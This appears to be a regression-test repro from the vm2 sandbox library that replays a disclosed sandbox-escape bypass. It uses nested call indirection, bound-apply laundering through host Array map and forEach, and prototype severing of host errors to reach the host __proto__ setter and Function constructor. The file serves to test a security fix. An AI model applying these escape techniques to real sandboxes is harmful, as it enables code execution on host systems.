// Source: vm2 test/ghsa/GHSA-cfcw-xp6x-25gj/repro.js (fixed after vm2 3.11.2, by 3.12.2), a bypass of GHSA-v6mx: two
// or three layers of Function.prototype.call indirection around the host `__proto__` setter, and the
// reporter's follow-up that launders the calls through a bound host applicator run by host
// Array.prototype.map / forEach on a host array.
// Tried: sever the prototype of the host error WebAssembly.compileStreaming() rejects with, then
// climb the next such error's constructor to the host Function; also the map/bind laundering.
'use strict';
const out = {};
const C = Buffer.call;
let getProto, setProto;
try { getProto = Buffer.call.call(Buffer.call, {}.__lookupGetter__, Buffer, '__proto__'); setProto = Buffer.call.call(Buffer.call, {}.__lookupSetter__, Buffer, '__proto__'); } catch (e) { out.extract = String(e.message); }
out.getter = typeof getProto;
out.setter = typeof setProto;
const hostError = async () => { try { await WebAssembly.compileStreaming(); } catch (e) { return e; } try { new URL(''); } catch (e) { return e; } };
const sever = [
  (e) => Buffer.call.call(Buffer.call, setProto, Buffer.call.call(Buffer.call, getProto, e), null),
  (e) => C.call.call(C, C.call.call(C, setProto), C.call.call(C, getProto, e), null),
  (e) => { const ca = Buffer.call.call(Buffer.bind, Buffer.apply, Buffer.call, Buffer.call); const caar = (a) => { const r = Buffer.of().toJSON().data; r[0] = a; return r.map(ca); }; const g = caar([{}.__lookupGetter__, Buffer, '__proto__']); g[1] = e; const s = caar([{}.__lookupSetter__, Buffer, '__proto__']); s[1] = ca(g); s[2] = null; ca(s); },
  (e) => { const ca = Buffer.call.call(Buffer.bind, Buffer.apply, Buffer.call, Buffer.call); const caar = (a) => { const r = Buffer.of().toJSON().data; r[0] = a; let res; r.forEach((x) => { res = ca(x); }); return [res]; }; const g = caar([{}.__lookupGetter__, Buffer, '__proto__']); g[1] = e; const s = caar([{}.__lookupSetter__, Buffer, '__proto__']); s[1] = ca(g); s[2] = null; ca(s); },
];
for (let i = 0; i < sever.length; i++) {
  try { sever[i](await hostError()); out['sever' + i] = 'ran'; } catch (e) { out['sever' + i] = String(e.message).slice(0, 60); }
  const next = await hostError();
  __wr.use(next, 'host error after severance ' + i);
}
try {
  const ca = Buffer.call.call(Buffer.bind, Buffer.apply, Buffer.call, Buffer.call);
  const r = Buffer.of().toJSON().data;
  r[0] = [{}.__lookupSetter__, Buffer, '__proto__'];
  const s = r.map(ca);
  out.launderedSetter = typeof s[0];
} catch (e) { out.launderedSetter = String(e.message).slice(0, 60); }
return out;
